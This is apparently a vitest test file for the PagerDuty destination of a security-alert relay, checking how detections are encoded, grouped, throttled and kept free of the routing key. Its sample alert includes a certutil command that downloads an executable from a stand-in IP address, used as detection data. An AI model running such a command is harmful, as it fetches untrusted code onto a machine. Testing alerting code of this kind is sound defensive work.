import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { FakeClock } from '../../lab/clock/fake-clock.ts';
import {
  PAGERDUTY_KEY,
  type PagerdutyReceiver,
  type PagerdutyReceiverOptions,
  type PagerdutyTrigger,
  startPagerdutyReceiver,
} from '../../lab/receivers/pagerduty.ts';
import type { Fault } from '../../lab/receivers/server.ts';
import type { Message } from '../../src/alerts/message.ts';
import { createDestination } from '../../src/destinations/create.ts';
import { createMessenger } from '../../src/destinations/create-messenger.ts';
import { DestinationRefusedError, RetryableError, RowsRefusedError } from '../../src/destinations/errors.ts';
import type { OpenMessenger } from '../../src/destinations/open-messenger.ts';
import { endpointOf, pagerdutyConfig } from '../../src/destinations/pagerduty/config.ts';
import { eventText, severalText } from '../../src/destinations/pagerduty/encode.ts';
import { nodeHttpClient } from '../../src/hosts/node/http.ts';
import { depsOf, RETRY_AFTER_MAX_MS } from './deps.ts';
import { anyMessage, group, operational } from './messages.ts';
import { alert, batchOf } from './samples.ts';

const signal = new AbortController().signal;
const MOST_BYTES = 512_000;
const LINKS = { Splunk: 'https://splunk.example/search?q=host%3D{host}%20rule%3D{rule}' };

const closers: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
});

async function open(
  over: PagerdutyReceiverOptions = {},
  entry: Record<string, unknown> = {},
): Promise<{ messenger: OpenMessenger; receiver: PagerdutyReceiver; clock: FakeClock }> {
  const receiver = await startPagerdutyReceiver({ store: true, ...over });
  const clock = new FakeClock(Date.now(), { sleepPasses: true });
  const config = pagerdutyConfig.parse({
    type: 'pagerduty',
    routing_key: PAGERDUTY_KEY,
    url: receiver.url,
    allow_networks: ['127.0.0.0/8'],
    ...entry,
  });
  const messenger = createMessenger(config, depsOf(nodeHttpClient, clock));
  if (!messenger) throw new Error('no messenger');
  closers.push(() => messenger.close(), receiver.close);
  return { messenger, receiver, clock };
}

function triggersOf(receiver: PagerdutyReceiver): readonly PagerdutyTrigger[] {
  return receiver.received.flatMap((event) => (event.event_action === 'trigger' ? [event] : []));
}

describe('pagerduty', () => {
  it('opens one alert for a group, changes it with later hits, and resolves it at the end', async () => {
    const { messenger, receiver } = await open({}, { auto_resolve: true });
    const first = group(1);
    await messenger.say(first, undefined, signal);
    await messenger.say({ ...first, phase: 'update', count: 12 }, first.groupId, signal);
    expect(receiver.opened()).toBe(1);
    expect(receiver.alerts.get(first.groupId)).toMatchObject({ isOpen: true, triggers: 2 });
    const [one, two] = triggersOf(receiver);
    expect(one?.payload.summary).toBe('HIGH: Download with certutil on ws-042.contoso.example');
    expect(two?.payload.summary).toBe(`${one?.payload.summary} (12 alerts)`);
    expect(two?.payload.custom_details?.count).toBe(12);
    await messenger.say({ ...first, phase: 'end', count: 12 }, first.groupId, signal);
    expect(receiver.alerts.get(first.groupId)?.isOpen).toBe(false);
    expect(messenger).toMatchObject({ wantsEnd: true, updates: 'in_place', intervalMs: 1_000 });
  });

  it('leaves an alert to whoever answers the page unless auto_resolve is set', async () => {
    const { messenger } = await open();
    expect(messenger.wantsEnd).toBe(false);
  });

  it('says what an analyst needs to know', async () => {
    const { messenger, receiver } = await open();
    const event = { ...alert(1).event, DeviceId: 'd1', AlertId: 'da1_-2' };
    await messenger.say({ ...group(1), envelope: alert(1, { event }) }, undefined, signal);
    const [sent] = triggersOf(receiver);
    expect(sent?.payload).toMatchObject({
      source: 'ws-042.contoso.example',
      severity: 'error',
      timestamp: '2026-11-23T07:01:02.000Z',
      component: 'certutil.exe',
      group: 'DeviceProcessEvents',
      custom_details: {
        severity: '🟠 HIGH',
        user: ['alice@contoso.example'],
        matched: ['FileName: certutil.exe'],
        command_line: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
        known_false_positives: ['Certificate roll-outs'],
        rule_id: 'e011a729-98a6-4139-b5c4-bf6f6dd8239a',
        event_id: alert(1).id,
      },
    });
    const links = sent?.links?.map(({ href }) => href) ?? [];
    expect(links).toContain(
      'https://security.microsoft.com/machines/v2/d1?tid=11111111-2222-3333-4444-555555555555',
    );
    expect(links).toContain('https://attack.mitre.org/techniques/T1105/');
  });

  it.each([
    ['critical', 'critical'],
    ['high', 'error'],
    ['medium', 'warning'],
    ['low', 'info'],
    ['informational', 'info'],
    [undefined, 'warning'],
  ] as const)('maps the level %s to %s', (severity, expected) => {
    const text = eventText({ ...group(1), severity });
    expect(JSON.parse(text).payload.severity).toBe(expected);
  });

  it('names the Defender alert rather than the rule', () => {
    const defender = {
      alertId: 'da1',
      title: 'Ransomware activity detected',
      category: 'Ransomware',
      techniques: ['Data Encrypted for Impact (T1486)'],
      evidence: 3,
    };
    const { payload } = JSON.parse(eventText({ ...group(1), defender }));
    expect(payload.summary).toContain('Ransomware activity detected');
    expect(payload).toMatchObject({
      class: 'Ransomware',
      custom_details: { defender: { evidence: '3 rows of evidence' } },
    });
  });

  it('keeps the host and the count in a summary whose title is too long', () => {
    const envelope = alert(1, { rule: { title: 'x'.repeat(5_000) } });
    const { summary } = JSON.parse(eventText({ ...group(1), envelope, count: 7 })).payload;
    expect(summary).toMatch(/x on ws-042\.contoso\.example \(7 alerts\)$/);
    expect(summary.length).toBeLessThanOrEqual(1_024);
  });

  it('opens a trouble of the relay and resolves it when it is over, whatever auto_resolve says', async () => {
    const { messenger, receiver } = await open();
    await messenger.say(operational('first'), undefined, signal);
    expect(receiver.alerts.get(operational('first').id)?.last.payload).toMatchObject({
      summary: 'xdr-relay: splunk is out of service',
      source: 'xdr-relay',
      custom_details: { facts: ['Destination: splunk'] },
    });
    await messenger.say(operational('end'), undefined, signal);
    expect(receiver.alerts.get(operational('first').id)?.isOpen).toBe(false);
  });

  it('pages once for many groups, also when that is sent again', async () => {
    const { messenger, receiver } = await open();
    const many: readonly Message[] = [
      ...Array.from({ length: 30 }, (_, at) => group(at)),
      operational('first'),
    ];
    await messenger.digest(many, signal);
    await messenger.digest([...many].reverse(), signal);
    expect(receiver.opened()).toBe(1);
    const [sent] = triggersOf(receiver);
    expect(sent?.payload.summary).toMatch(
      /^30 alerts in 30 groups, 1 of the relay itself: Download with certutil, /,
    );
    expect(String(sent?.payload.custom_details?.groups).split(',')).toHaveLength(30);
    const listed = JSON.stringify(sent?.payload.custom_details?.titles);
    expect(listed).toContain('https://security.microsoft.com/v2/advanced-hunting?');
  });

  it('tells a key that is at fault from an event that is', async () => {
    const cases: [
      Fault,
      typeof RetryableError | typeof RowsRefusedError | typeof DestinationRefusedError,
      string,
    ][] = [
      [
        {
          status: 400,
          body: '{"status":"invalid key","message":"Event object is invalid","errors":["Invalid routing key"]}',
        },
        DestinationRefusedError,
        'not_authorized',
      ],
      [
        {
          status: 400,
          body: `{"status":"invalid event","message":"Event object is invalid","errors":["Length of 'routing_key' is incorrect (should be 32 characters)"]}`,
        },
        DestinationRefusedError,
        'not_authorized',
      ],
      [
        {
          status: 400,
          body: `{"status":"invalid event","message":"Event object is invalid","errors":["'summary' is too long (maximum is 1024 characters)"]}`,
        },
        RowsRefusedError,
        'rows_refused',
      ],
      [
        {
          status: 400,
          body: '{"status":"Unrecognized object","message":"Event object format is unrecognized","errors":["JSON parse error"]}',
        },
        RowsRefusedError,
        'rows_refused',
      ],
      [{ status: 400, body: 'Bad Request' }, DestinationRefusedError, 'refused'],
      [{ status: 403, body: 'Forbidden' }, DestinationRefusedError, 'not_authorized'],
      [{ status: 410 }, DestinationRefusedError, 'not_found'],
      [{ status: 202, body: '' }, RetryableError, 'bad_reply'],
      [{ status: 200, body: '<html>Sign in</html>' }, RetryableError, 'bad_reply'],
      [{ status: 202, body: '{"status":"invalid event"}' }, RetryableError, 'bad_reply'],
    ];
    for (const [fault, kind, code] of cases) {
      const { messenger } = await open({ fault: () => fault });
      const said = messenger.say(group(1), undefined, signal);
      await expect(said, JSON.stringify(fault)).rejects.toMatchObject({ name: kind.name, code });
    }
  });

  it.each<[Fault, number]>([
    [{ status: 429 }, 60_000],
    [{ status: 429, headers: { 'retry-after': '7' } }, 7_000],
    [{ status: 429, headers: { 'retry-after': '86400' } }, RETRY_AFTER_MAX_MS],
  ])('waits after %j', async (fault, retryAfterMs) => {
    const { messenger } = await open({ fault: () => fault });
    await expect(messenger.say(group(1), undefined, signal)).rejects.toMatchObject({
      code: 'throttled',
      retryAfterMs,
    });
  });

  it('hides its key in what a reply repeats', async () => {
    const body = `{"status":"invalid event","message":"no: ${PAGERDUTY_KEY}","errors":[]}`;
    const { messenger } = await open({ fault: () => ({ status: 400, body }) });
    await expect(messenger.say(group(1), undefined, signal)).rejects.not.toThrow(PAGERDUTY_KEY);
  });

  it('stores no key with a row', async () => {
    const { receiver } = await open();
    const config = {
      type: 'pagerduty',
      routing_key: PAGERDUTY_KEY,
      url: receiver.url,
      allow_networks: ['127.0.0.0/8'],
    };
    const destination = createDestination('on-call', pagerdutyConfig.parse(config), depsOf(nodeHttpClient));
    const batch = batchOf(destination, [alert(1)]);
    expect(Buffer.from(batch.items[0]?.payload() ?? []).toString()).not.toContain(PAGERDUTY_KEY);
    await destination.send(batch, signal);
    expect(receiver.counts.events).toBe(1);
    await destination.close();
  });

  it('calls the region of the account, or the address that is given', () => {
    const parse = (over: object) =>
      endpointOf(pagerdutyConfig.parse({ type: 'pagerduty', routing_key: PAGERDUTY_KEY, ...over }));
    expect(parse({})).toBe('https://events.pagerduty.com/v2/enqueue');
    expect(parse({ region: 'eu' })).toBe('https://events.eu.pagerduty.com/v2/enqueue');
    expect(parse({ region: 'eu', url: 'https://proxy.example/pd' })).toBe('https://proxy.example/pd');
    for (const routing_key of ['', 'e+23rschqsESqk9Q6_-g', `${PAGERDUTY_KEY}0`]) {
      expect(() => parse({ routing_key })).toThrow(/32 letters and digits/);
    }
  });

  it('makes events that PagerDuty takes, whatever a message holds', async () => {
    const receiver = await startPagerdutyReceiver({ store: true });
    closers.push(receiver.close);
    const take = async (text: string) => {
      expect(Buffer.byteLength(text)).toBeLessThanOrEqual(MOST_BYTES - 60);
      const body = `{"routing_key":"${PAGERDUTY_KEY}",${text.slice(1)}`;
      const reply = await fetch(receiver.url, {
        method: 'POST',
        body,
        headers: { 'content-type': 'application/json' },
      });
      expect([reply.status, await reply.json()]).toEqual([
        202,
        expect.objectContaining({ status: 'success' }),
      ]);
      expect(text).not.toMatch(/[\u202e\u200b\u{e0041}]/u);
    };
    await fc.assert(
      fc.asyncProperty(fc.array(anyMessage, { minLength: 1, maxLength: 20 }), async (messages) => {
        for (const message of messages) await take(eventText(message, LINKS));
        await take(severalText(messages, 'k', LINKS));
      }),
      { numRuns: 40 },
    );
  });
});
